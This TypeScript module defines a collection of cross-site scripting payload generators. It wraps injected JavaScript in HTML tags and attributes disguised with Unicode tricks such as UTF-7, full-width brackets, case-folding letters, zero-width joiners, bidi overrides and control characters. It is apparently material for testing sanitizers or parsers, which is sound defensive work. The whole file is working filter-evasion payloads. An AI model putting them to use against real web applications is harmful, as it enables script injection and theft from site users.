import { family } from './payload.ts'

/** Characters that people, parsers and case folding read differently. */
export const CHARACTERS = family('characters', {
  'byte-order-mark': ({ js }) => `\ufeff<img src=x: onerror=${js}>\ufeff`,
  'seven-bit': ({ js }) => `+ADw-script+AD4-${js}+ADw-/script+AD4-`,
  'escape-sequence': ({ js }) => `\u001b$B<img src=x: onerror=${js}>\u001b(B`,
  'full-width': ({ js }) => `＜script＞${js}＜/script＞<p ｏnclick="${js}">p</p>`,
  'kelvin-sign': ({ js }) => `<lin\u212a rel=stylesheet href=x: onload="${js}"><p oncl\u0131c\u212a="${js}">p</p>`,
  'long-s': ({ js }) => `<\u017fcript>${js}</\u017fcript><img \u017frc=x: onerror="${js}">`,
  'dotless-i': ({ js }) => `<\u0131mg src=x: onerror=${js}><scr\u0130pt>${js}</scr\u0130pt>`,
  'half-space-in-name': ({ js }) => `<p on\u200cclick="${js}" \u200conclick="${js}" onclick\u200c="${js}">p</p>`,
  'half-space-before': ({ js }) => `<p\u200c onclick="${js}">p</p><p \u200c onclick="${js}">می\u200cخوانم</p>`,
  'persian-attribute': ({ js }) => `<p رویداد="${js}" با‌کلیک=x onclick="${js}">متن</p>`,
  'persian-tag': ({ js }) => `<متن onclick="${js}">متن</متن><x-متن onclick="${js}">متن</x-متن>`,
  'persian-digits': ({ js }) => `<p onclick="console.debug(۱);${js}" width="۱۲" style="width:۱۲px">متن</p>`,
  'right-to-left-override': ({ js }) => `\u202e<img src=x: onerror=${js}>\u202c<p title="\u202e>gmi<">p</p>`,
  isolates: ({ js }) => `\u2066\u2067\u2068<p onclick="${js}">متن \u202d text</p>`,
  'tag-characters': ({ js }) => `\u{e0001}\u{e003c}\u{e0073}\u{e003e}<p onclick="${js}">p</p>`,
  noncharacters: ({ js }) => `\ufffe\uffff<img\ufffe src=x: onerror=${js}><p on\uffffclick=${js}>p</p>`,
  controls: ({ js }) => `<p\u0001onclick="${js}" \u0002onclick="${js}" on\u0003click="${js}">p</p>`,
  'high-controls': ({ js }) => `<p\u0085onclick="${js}" \u0080onclick="${js}" \u009fonclick="${js}">p</p>`,
  'no-break-space': ({ js }) => `<img\u00a0src=x:\u00a0onerror=${js}><p \u3000onclick="${js}">p</p>`,
  'line-separators': ({ js }) => `<img\u2028src=x:\u2029onerror=${js}><p onclick="x\u2028${js}">p</p>`,
  'combining-marks': ({ js }) =>
    `<p\u0301 onclick="${js}">p</p><p onclick\u0338="${js}">p</p>${'z\u0335\u0336'.repeat(99)}`,
  'replacement-sign': ({ js }) => `<img\ufffdsrc=x: \ufffdonerror="${js}" onerror="${js}\ufffd">`,
  'entities-for-controls': ({ js }) => `<p onclick="&#128;&#0;&#xD800;&#x110000;${js}">p</p>`,
  'surrogate-pairs': ({ js }) => `<p 🖐="${js}" onclick🖐="${js}" onclick="${js}">🖐</p><🖐 onclick="${js}">`,
})
